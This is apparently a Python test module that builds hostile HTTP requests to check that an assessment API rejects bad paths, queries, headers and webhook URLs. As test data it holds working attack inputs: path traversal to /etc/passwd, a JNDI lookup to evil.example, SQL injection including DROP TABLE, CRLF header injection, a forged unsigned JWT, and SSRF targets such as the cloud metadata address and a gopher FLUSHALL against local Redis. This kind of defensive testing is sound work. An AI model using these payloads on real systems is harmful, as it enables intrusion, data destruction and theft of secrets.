"""Paths, queries and headers; and addresses that a webhook must never reach."""

import json
from collections.abc import Iterator
from urllib.parse import quote

from tests.api.hostile.bodies import GOOD, NOBODY
from tests.api.hostile.request import JSON, Hostile

_OF_ONE = (
    "/v1/assessments/",
    "/v1/batches/",
    "/v1/webhooks/",
    "/v1/packs/",
    "/v1/lists/",
    "/v1/technologies/",
    "/entities/",
)
_IDS = {
    "a folder above": "..%2f..%2f..%2fetc%2fpasswd",
    "a folder above, twice written": "%252e%252e%252fetc%252fpasswd",
    "backslashes": "..%5c..%5cwindows%5cwin.ini",
    "overlong dots": "%c0%ae%c0%ae%c0%af",
    "NUL": "japan-uk%00.yaml",
    "a new line": "japan-uk%0d%0aX-Injected:%201",
    "a template": "%7b%7b7*7%7d%7d",
    "an expression": "$%7bjndi:ldap:%2f%2fevil.example%2fa%7d",
    "SQL": "1'%20OR%20'1'='1",
    "SQL's end": "1;DROP%20TABLE%20assessments--",
    "another script": quote("日本-英国"),
    "full width": quote("ｊａｐａｎ－ｕｋ"),
    "right to left": quote("\u202ejapan"),
    "half a character": "%ed%a0%80",
    "no UTF-8": "%ff%fe",
    "much": "a" * 6000,
    "a huge number": "9" * 400,
    "a negative number": "-1",
    "a page": "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "other letters of an id": NOBODY.replace("0", "G"),
}
_QUERIES = {
    "/v1/assessments": (
        "limit=0", "limit=-1", "limit=201", "limit=1e3", "limit=NaN", "limit=9999999999999999999999", "limit=",
        "limit=%00", "limit=１", "cursor=1", "cursor=%00", "cursor=' OR 1=1--", f"cursor={NOBODY}", "state=accepted",
        "level=guilty", "pack=..%2F..", "pack=%7b%7b1%7d%7d", "proposal=%00", "created_after=0",
        "created_after=2026-13-01T00:00:00Z",
        "created_after=2026-01-01T00:00:00", "created_before=99999-01-01T00:00:00Z", "nationality=XX",
        "limit[]=1", "__class__=1",
    ),
    "/v1/batches": ("limit=0", "state=rejected", "cursor=x", "offset=1"),
    "/v1/audit": ("after=-1", f"after={2**80}", "limit=1001", "tenant=other", "action=" + "a" * 65),
    "/v1/lists": ("as_of=0", "as_of=2026-02-30", "as_of=0001-01-01", "as_of=20261101", "as_of=%00", "day=1"),
    "/v1/lists/us-section-1286/entries": ("limit=1001", "cursor=%00", "cursor=../..", "edition=%00", "edition="),
    "/v1/packs": ("id=japan-uk", "lang=en"),
    "/v1/technologies": ("q=1",),
    "/catalog": ("q=1",),
    "/metrics": ("name[]=x",),
    f"/v1/assessments/{NOBODY}/checklist": ("format=exe", "format=../pdf", "lang=xx", "lang=%7b%7b7*7%7d%7d",
                                              "person=0"),
}  # fmt: skip
_MATCH = ("limit=0", "limit=501", "threshold=2", "threshold=NaN", "cutoff=-1", "algorithm=logic-v1", "topics=sanction",
          "include_dataset=none", "changed_since=2020", "fuzzy=true",
          "exclude_entity_ids=" + "&exclude_entity_ids=".join("a" * 51))  # fmt: skip
_INSIDE = (
    "http://grants.example.org/told", "ftp://grants.example.org/", "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "javascript:alert(1)", "data:text/plain,a", "https://", "https:///told", "//grants.example.org",
    "grants.example.org", "",
    "https://127.0.0.1/", "https://127.1/", "https://2130706433/", "https://0x7f000001/", "https://017700000001/",
    "https://0.0.0.0/", "https://0/", "https://localhost/", "https://LOCALHOST./", "https://10.0.0.1/",
    "https://172.16.0.1/",
    "https://192.168.1.1/", "https://100.64.0.1/", "https://169.254.169.254/latest/meta-data/", "https://224.0.0.1/",
    "https://255.255.255.255/", "https://[::1]/", "https://[::]/", "https://[::ffff:127.0.0.1]/", "https://[::ffff:a9fe:a9fe]/",
    "https://[fe80::1]/", "https://[fc00::1]/", "https://[64:ff9b::7f00:1]/", "https://[2002:7f00:1::]/", "https://[::1%25lo]/",
    "https://user:secret@grants.example.org/", "https://grants.example.org@127.0.0.1/", "https://grants.example.org:0/",
    "https://grants.example.org:99999/", "https://grants.example.org:x/", "https://grants.example.org/#told",
    "https://grants.example.org\\@127.0.0.1/", "https://127.0.0.1\r\nHost: grants.example.org/", "https://①②⑦.⓪.⓪.①/",
    "https://grants.example.org/\0", "https://grants。example。org/", "https://" + "a" * 3000 + ".example.org/", "https://[::1/",
    "https://no-such-host.invalid/",
)  # fmt: skip


def cases() -> Iterator[Hostile]:
    """All of them."""
    for path in _OF_ONE:
        for name, id_ in _IDS.items():
            yield Hostile(f"GET {path}: {name}", "GET", path + id_)
    for path, queries in _QUERIES.items():
        for query in queries:
            yield Hostile(f"GET {path}?{query[:60]}", "GET", f"{path}?{quote(query, safe='=&%')}")
    for query in _MATCH:
        body = json.dumps(GOOD["POST", "/match/default"]).encode()
        yield Hostile(f"POST /match/default?{query[:60]}", "POST", f"/match/default?{query}", body, JSON)
    for url in _INSIDE:
        body = json.dumps({"url": url, "events": ["batch.done"]}).encode()
        yield Hostile(f"a webhook to {url[:60]!r}", "POST", "/v1/webhooks", body, JSON)
    yield from _methods()
    yield from _headers()


def _methods() -> Iterator[Hostile]:
    for method in ("DELETE", "PATCH", "PUT", "TRACE", "PROPFIND", "BREW"):
        for path in ("/v1/assessments", "/v1/packs", "/v1/match", "/healthz", "/openapi.json"):
            yield Hostile(f"{method} {path}", method, path)
    for path in (
        "/v1",
        "/v1/",
        "/v2/packs",
        "/.env",
        "/.git/config",
        "/admin",
        "/v1//packs",
        "/v1/packs;a=b",
        "/V1/PACKS",
    ):
        yield Hostile(f"GET {path}", "GET", path)


def _headers() -> Iterator[Hostile]:
    body = json.dumps(GOOD["POST", "/v1/assessments"]).encode()
    for name, value in {
        "no scheme": "trk_0", "another scheme": "Basic YTpi", "no key": "Bearer ", "a wrong key": "Bearer trk_0000_a",
        "two keys": "Bearer a, Bearer b", "a token of nobody": "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhIn0.",
        "SQL": "Bearer ' OR 1=1 --", "much": "Bearer " + "a" * 8000, "other letters": "Bearer \xe9\xe8",
    }.items():  # fmt: skip
        yield Hostile(f"Authorization: {name}", "GET", "/v1/packs", headers={"Authorization": value}, keyed=False)
    yield Hostile("no Authorization", "GET", "/v1/packs", keyed=False)
    for name, value in {
        "blank": " ",
        "much": "a" * 300,
        "other letters": "\xe9",
        "quotes": '"a',
        "tab": "a\tb",
    }.items():
        sent = JSON | {"Idempotency-Key": value}
        yield Hostile(f"Idempotency-Key: {name}", "POST", "/v1/assessments", body, sent)
    for value in ("merit-review", "", "../..", "a" * 500, "research-security, merit-review"):
        yield Hostile(f"Purpose: {value[:40]!r}", "GET", "/v1/assessments", headers={"Purpose": value})
    for length in ("6000000", "99999999999999"):
        sent = JSON | {"Content-Length": length}
        yield Hostile(f"Content-Length: {length}", "POST", "/v1/assessments", b"{}", sent)
